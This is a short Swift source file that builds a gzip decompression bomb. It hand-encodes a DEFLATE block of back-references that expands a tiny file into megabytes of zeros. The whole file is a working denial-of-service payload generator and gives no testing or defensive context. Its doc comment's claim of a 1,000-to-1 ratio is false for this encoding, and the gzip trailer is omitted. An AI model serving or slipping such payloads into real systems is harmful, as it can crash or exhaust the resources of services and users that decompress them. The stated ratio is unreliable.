import Foundation

/// Zeros that take a thousandth of their room (RFC 1951, RFC 1952), written by hand.
enum GzipBomb {
  static func bytes(megabytes: Int) throws -> Data {
    // One fixed-code block: a literal 0, then matches of length 258 at distance 1.
    var bits = BitWriter()
    bits.append(1, count: 1)
    bits.append(1, count: 2)
    bits.appendCode(0x30, count: 8)
    for _ in 0..<(megabytes * 1_000_000 / 258) {
      bits.appendCode(0xC5, count: 8)  // length 258: code 285
      bits.appendCode(0, count: 5)  // distance 1
    }
    bits.appendCode(0, count: 7)  // end of block
    return Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]) + bits.bytes
  }

  private struct BitWriter {
    private(set) var bytes = Data()
    private var used = 8

    mutating func append(_ value: Int, count: Int) {
      for bit in 0..<count { push(value >> bit & 1) }
    }

    /// Huffman codes go most significant bit first.
    mutating func appendCode(_ value: Int, count: Int) {
      for bit in (0..<count).reversed() { push(value >> bit & 1) }
    }

    private mutating func push(_ bit: Int) {
      if used == 8 {
        bytes.append(0)
        used = 0
      }
      bytes[bytes.count - 1] |= UInt8(bit << used)
      used += 1
    }
  }
}
